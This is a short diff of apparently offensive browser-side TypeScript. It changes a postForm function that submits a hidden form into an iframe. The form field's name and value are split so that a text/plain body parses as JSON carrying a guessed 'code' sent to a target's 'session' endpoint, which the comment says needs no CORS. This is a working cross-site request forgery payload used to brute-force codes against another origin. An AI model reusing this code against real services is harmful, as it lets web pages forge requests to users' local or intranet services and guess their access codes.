@@ -42,7 +42,7 @@ export function openSocket({ address, guess }: Target): Promise<Got> {
   });
 }
 
-/** Sends a form into a frame, which needs no CORS; `text/plain` can be made to look like JSON. */
+/** Sends a form into a frame, which needs no CORS. As `text/plain` it looks like JSON, with one "=" too many. */
 export function postForm({ address, guess }: Target): Promise<Got> {
   return new Promise((told) => {
     const frame = document.createElement("iframe");
@@ -53,8 +53,8 @@ export function postForm({ address, guess }: Target): Promise<Got> {
     form.action = `${address}session`;
     form.target = frame.name;
     const field = document.createElement("input");
-    field.name = `{"code":"${guess}","x":"`;
-    field.value = `"}`;
+    field.name = `{"code":"`;
+    field.value = `${guess}"}`;
     form.append(field);
     document.body.append(frame, form);
     frame.addEventListener("load", () => {
